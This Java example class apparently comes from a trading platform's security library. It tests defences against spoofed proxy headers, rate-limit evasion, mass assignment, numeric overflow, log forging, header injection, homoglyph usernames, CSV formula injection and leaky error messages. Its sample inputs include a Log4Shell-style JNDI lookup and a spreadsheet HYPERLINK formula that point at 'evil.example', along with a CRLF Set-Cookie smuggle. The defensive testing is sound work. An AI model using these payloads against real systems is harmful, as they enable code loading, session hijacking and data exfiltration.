package io.bondtrader.examples.security;

import io.bondtrader.core.trade.Side;
import io.bondtrader.security.error.InputRejected;
import io.bondtrader.security.identity.AccountId;
import io.bondtrader.security.identity.Principal;
import io.bondtrader.security.input.CsvText;
import io.bondtrader.security.input.DecimalRule;
import io.bondtrader.security.input.HeaderText;
import io.bondtrader.security.input.JsonLimits;
import io.bondtrader.security.input.LogText;
import io.bondtrader.security.input.RequestBody;
import io.bondtrader.security.input.TextRule;
import io.bondtrader.security.input.Usernames;
import io.bondtrader.security.network.IpAddress;
import io.bondtrader.security.network.TrustedProxies;
import io.bondtrader.security.problem.CorrelationIds;
import io.bondtrader.security.problem.Problem;
import io.bondtrader.security.problem.Problems;
import io.bondtrader.security.ratelimit.RateLimitHeaders;
import io.bondtrader.security.ratelimit.RateLimiter;
import io.bondtrader.security.ratelimit.RatePolicy;
import io.bondtrader.security.ratelimit.RateRequest;
import io.bondtrader.security.ratelimit.RateScope;
import io.bondtrader.security.ratelimit.Verdict;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Optional;

/** What comes in, how often, and what goes out. */
final class EdgeWalk {

    private static final IpAddress PROXY = IpAddress.parse("10.0.0.5");

    private final House house;
    private final Transcript transcript;
    private final TrustedProxies proxies = TrustedProxies.of("10.0.0.0/8");
    private final RateLimiter limiter;

    EdgeWalk(House house, Transcript transcript) {
        this.house = house;
        this.transcript = transcript;
        this.limiter = RateLimiter.builder(house.clock::ticks)
                .events(house.trail, house.clock, Duration.ofSeconds(10))
                .build(List.of(RatePolicy.of("orders", RateScope.PERSON, 50, Duration.ofSeconds(1))));
    }

    void run(User mia) {
        transcript.step("At the door");
        IpAddress client = proxies.client(PROXY, List.of("203.0.113.7"));
        transcript.allowed(
                "a request of mia's, through our own proxy", client.toString().equals("203.0.113.7"), client);
        transcript.attack("A48", "X-Forwarded-For says that an order comes from our own house", () -> {
            IpAddress found = proxies.client(PROXY, List.of("10.0.0.1, 198.51.100.66"));
            return found.toString().equals("198.51.100.66") ? Optional.of("it comes from " + found) : Optional.empty();
        });
        transcript.allowed("fifty orders of mia's in a second", burst(mia, "mia", 50) == 50, "all of them");
        transcript.attack(
                "A48",
                "ten more, by her API key",
                () -> burst(mia, "mia-key", 10) == 0
                        ? Optional.of("none: they count for the person; " + headers(mia))
                        : Optional.empty());
        house.clock.pass(Duration.ofSeconds(2));

        transcript.allowed(
                "an order, bound field by field",
                bound("{\"isin\":\"US912810TM09\",\"side\":\"BUY\",\"face\":1000000,\"price\":\"99.5\"}")
                        .isEmpty(),
                "four fields, each by its rule");
        transcript.attack(
                "A57",
                "the same with a field that nobody asked for",
                () -> bound(
                        "{\"isin\":\"US912810TM09\",\"side\":\"BUY\",\"face\":1000000,\"price\":\"99.5\",\"approved\":true}"));
        transcript.attack(
                "A57",
                "a price of 1e999999999",
                () -> bound("{\"isin\":\"US912810TM09\",\"side\":\"BUY\",\"face\":1000000,\"price\":\"1e999999999\"}"));
        outputs();
    }

    private void outputs() {
        String forged = "mia\r\n09:59:59 root authn_login_success \u202e${jndi:ldap://evil.example}";
        transcript.attack("A50", "a login name that writes a line of its own into the log", () -> {
            String line = LogText.encode(forged);
            boolean one = line.lines().count() == 1 && !line.contains("${") && line.indexOf('\u202e') < 0;
            return one && LogText.decode(line).equals(forged) ? Optional.of(line) : Optional.empty();
        });
        transcript.attack("A51", "a header that brings a second one", () -> {
            HeaderText.value("X-Desk", "RATES\r\nSet-Cookie: session=mine");
            return Optional.empty();
        });
        transcript.attack(
                "A52",
                "an account named mіa, with a Cyrillic і",
                () -> Usernames.canonical("m\u0456a").isPresent()
                        ? Optional.empty()
                        : Optional.of("one script to a name"));
        transcript.attack("A56", "an issuer whose name is a formula", () -> {
            String cell = CsvText.cell("=HYPERLINK(\"https://evil.example\")");
            return cell.startsWith("=") || cell.startsWith("\"=") ? Optional.empty() : Optional.of(cell);
        });
        transcript.attack("A60", "an error that tells how the house is built", () -> {
            var problems = Problems.loggingTo((id, line, thrown) -> {});
            String told = "jdbc:postgresql://db.internal/orders failed";
            Problem problem = problems.of(
                    new IllegalStateException(told),
                    CorrelationIds.of(house.random).next());
            return problem.toJson().contains("internal")
                    ? Optional.empty()
                    : Optional.of(problem.code() + " " + problem.title());
        });
    }

    private int burst(User person, String account, int orders) {
        int allowed = 0;
        for (int i = 0; i < orders; i++) {
            allowed += check(person, account).allowed() ? 1 : 0;
        }
        return allowed;
    }

    private Verdict check(User person, String account) {
        Principal principal = Principal.of(AccountId.of(account), person.person);
        return limiter.check(RateRequest.of(principal, "trader", "orders", person.source.address()))
                .orElseThrow();
    }

    private String headers(User person) {
        return "Retry-After: "
                + RateLimitHeaders.of(limiter.policies(), check(person, person.name))
                        .get("Retry-After");
    }

    private static Optional<String> bound(String json) {
        try {
            RequestBody body = RequestBody.read(json.getBytes(StandardCharsets.UTF_8), JsonLimits.standard());
            body.text("isin", TextRule.isin());
            body.oneOf("side", Side.class);
            body.integer("face", 1, 1_000_000_000);
            body.decimal("price", DecimalRule.of("0.01", "300", 6));
            body.done();
            return Optional.empty();
        } catch (InputRejected rejected) {
            return Optional.of(rejected.problems().toString());
        }
    }
}
